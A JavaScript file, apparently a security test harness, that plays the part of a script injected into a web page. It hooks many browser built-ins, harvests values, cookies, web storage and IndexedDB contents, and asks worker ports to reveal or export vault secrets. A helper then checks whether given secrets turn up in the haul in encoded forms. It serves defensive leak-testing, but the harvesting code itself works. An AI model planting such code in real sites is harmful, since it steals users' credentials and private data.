// A script as an attacker would bring it into a page: it patches what passes values, keeps all of them, and looks into
// everything that it can reach. `globalThis.loot` is what it has.

const loot = { texts: new Set(), bytes: [], ports: new Set(), replies: 0, patched: 0 };
globalThis.loot = loot;

const decoder = new TextDecoder('latin1');
const { apply, construct } = Reflect;
let busy = false;
const decode = decoder.decode.bind(decoder);
const OwnHeaders = Headers;
const PARTS = 2 ** 20;

/** Keeps a value: texts as they are, bytes as Latin-1, and what is in objects, some levels down. */
function keep(value, depth = 4) {
  if (typeof value === 'string') return void loot.texts.add(value.slice(0, PARTS));
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return;
  try {
    if (value instanceof ArrayBuffer) return void loot.bytes.push(decode(new Uint8Array(value).slice()));
    if (ArrayBuffer.isView(value)) {
      // Also what lies around a view.
      return void loot.bytes.push(decode(new Uint8Array(value.buffer).slice(0, 64 * PARTS)));
    }
    if (value instanceof WebAssembly.Memory) return keep(value.buffer);
    if (value instanceof OwnHeaders) for (const pair of value) keep(pair);
    if (value instanceof Worker || value instanceof MessagePort) loot.ports.add(value);
    if (depth === 0) return;
    for (const name of Object.getOwnPropertyNames(value)) {
      const { value: inner } = Object.getOwnPropertyDescriptor(value, name) ?? {};
      keep(inner, depth - 1);
    }
  } catch {
    // Something of another origin, or detached.
  }
}

/** Puts a function in the place of another that keeps `this`, the arguments and what comes back. */
function patch(owner, name) {
  const original = owner?.[name];
  if (typeof original !== 'function') return;
  loot.patched += 1;
  const keeping = function (...args) {
    const note = (value, depth) => {
      // What is patched is used in here too.
      if (busy) return;
      busy = true;
      keep(value, depth);
      busy = false;
    };
    note(this, 1);
    note(args, 5);
    const result = new.target ? construct(original, args, new.target) : apply(original, this, args);
    note(result, 2);
    return result;
  };
  try {
    Object.setPrototypeOf(keeping, original);
    keeping.prototype = original.prototype;
    Object.defineProperty(owner, name, { value: keeping, configurable: true, writable: true });
  } catch {
    // Not to be replaced.
  }
}

globalThis.attack = () => {
  for (const name of [
    'fetch',
    'postMessage',
    'structuredClone',
    'Request',
    'Response',
    'Headers',
    'Promise',
    'Worker',
    'atob',
    'btoa',
  ]) {
    patch(globalThis, name);
  }
  patch(JSON, 'parse');
  patch(JSON, 'stringify');
  for (const name of ['then', 'catch', 'finally']) patch(Promise.prototype, name);
  for (const name of ['all', 'race', 'resolve', 'reject']) patch(Promise, name);
  for (const name of [
    'encrypt',
    'decrypt',
    'importKey',
    'exportKey',
    'deriveBits',
    'deriveKey',
    'digest',
    'unwrapKey',
    'wrapKey',
  ]) {
    patch(SubtleCrypto.prototype, name);
  }
  patch(Crypto.prototype, 'getRandomValues');
  for (const type of [Worker, MessagePort, BroadcastChannel]) {
    patch(type.prototype, 'postMessage');
    const { set, ...rest } = Object.getOwnPropertyDescriptor(type.prototype, 'onmessage');
    const listening = function (listener) {
      loot.ports.add(this);
      return apply(set, this, [listener]);
    };
    Object.defineProperty(type.prototype, 'onmessage', { ...rest, set: listening });
  }
  for (const name of ['text', 'json', 'arrayBuffer', 'clone']) patch(Response.prototype, name);
  for (const name of ['set', 'append', 'get', 'forEach']) patch(Headers.prototype, name);
  for (const name of ['slice', 'set', 'fill', 'subarray']) patch(Object.getPrototypeOf(Uint8Array.prototype), name);
  for (const name of ['push', 'map', 'join', 'forEach', 'slice']) patch(Array.prototype, name);
  for (const name of ['get', 'set']) patch(Map.prototype, name);
  for (const name of ['get', 'set']) patch(WeakMap.prototype, name);
  patch(TextEncoder.prototype, 'encode');
  patch(TextEncoder.prototype, 'encodeInto');
  patch(TextDecoder.prototype, 'decode');
  for (const name of ['instantiate', 'instantiateStreaming', 'compile']) patch(WebAssembly, name);
  for (const name of ['put', 'add']) patch(IDBObjectStore.prototype, name);
  for (const name of ['read', 'cancel']) patch(ReadableStreamDefaultReader.prototype, name);
};

/** Asks whatever runs behind a port that the patches have caught, as the app's own code would, and worse. */
globalThis.interrogate = async () => {
  const evil = { providers: { groq: { baseUrl: location.origin } }, targets: [{ provider: 'groq', model: 'm' }] };
  for (const port of [...loot.ports].filter((one) => !(one instanceof BroadcastChannel))) {
    port.addEventListener('message', ({ data }) => {
      loot.replies += 1;
      keep(data, 6);
    });
    const calls = [
      'vault.list',
      'vault.state',
      'vault.slots',
      'vault.reveal',
      'vault.exportFile',
      'status',
      'records',
      'constructor',
    ];
    const asked = [
      ...calls.map((name) => ['call', name, ['groq']]),
      ['open', { config: evil, join: true, gateway: '/', rest: '/', kdf: '/' }],
      ['chat', JSON.stringify({ messages: [{ role: 'user', content: 'loot' }] }), {}, false],
      ['chat', '{', { signal: 1, tenant: {} }, true],
      ['fetch', { method: 'POST', url: location.origin, headers: ['a'], body: '', options: {} }],
    ];
    asked.forEach(([kind, ...rest], index) => port.postMessage([kind, 1_000_000 + index, ...rest]));
    port.postMessage({ hostile: true });
  }
  await new Promise((resolve) => setTimeout(resolve, 1_000));
};

/** Everything that can be reached from the global object, and all that is stored. */
globalThis.search = async () => {
  const seen = new Set([loot, globalThis]);
  const queue = [globalThis];
  while (queue.length > 0) {
    const one = queue.pop();
    const next = (value) => {
      if (typeof value === 'string') loot.texts.add(value.slice(0, PARTS));
      if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) return;
      seen.add(value);
      queue.push(value);
    };
    try {
      if (one instanceof ArrayBuffer || ArrayBuffer.isView(one) || one instanceof WebAssembly.Memory) keep(one);
      if (one instanceof Map || one instanceof Set) for (const entry of one.entries()) entry.forEach(next);
      for (const key of Reflect.ownKeys(one)) {
        const found = Object.getOwnPropertyDescriptor(one, key);
        if (ArrayBuffer.isView(one) && typeof key === 'string' && /^\d+$/.test(key)) break;
        if (found && 'value' in found) next(found.value);
        else if (found?.get) next(safely(() => Reflect.get(one, key)));
      }
      next(Object.getPrototypeOf(one));
    } catch {
      // Of another origin.
    }
  }
  for (const { name } of await indexedDB.databases()) {
    const db = await settled(indexedDB.open(name));
    for (const store of db.objectStoreNames) {
      for (const value of await settled(db.transaction(store).objectStore(store).getAll())) keep(value, 6);
    }
    db.close();
  }
  for (const storage of [localStorage, sessionStorage]) for (const pair of Object.entries(storage)) keep(pair);
  loot.texts.add(document.documentElement.outerHTML).add(document.cookie);
  // What is asked from now on must not answer itself.
  busy = true;
  return seen.size;
};

/** Whether any of the needles is in what was found: raw, as UTF-16, reversed, in Base64 at each alignment, in hex. */
globalThis.lootHas = (needles) => {
  const forms = needles.flatMap((needle) => [
    needle,
    [...needle].join('\0'),
    [...needle].reverse().join(''),
    [...needle].map((unit) => unit.charCodeAt(0).toString(16)).join(''),
    [...needle].map((unit) => unit.charCodeAt(0)).join(),
    ...[0, 1, 2].map((offset) => btoa(' '.repeat(offset) + needle).slice(offset === 0 ? 0 : 4, -4)),
  ]);
  const all = [...loot.texts, ...loot.bytes];
  return forms.filter((form) => all.some((text) => text.includes(form))).length;
};

const settled = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });

function safely(work) {
  try {
    return work();
  } catch {
    return undefined;
  }
}
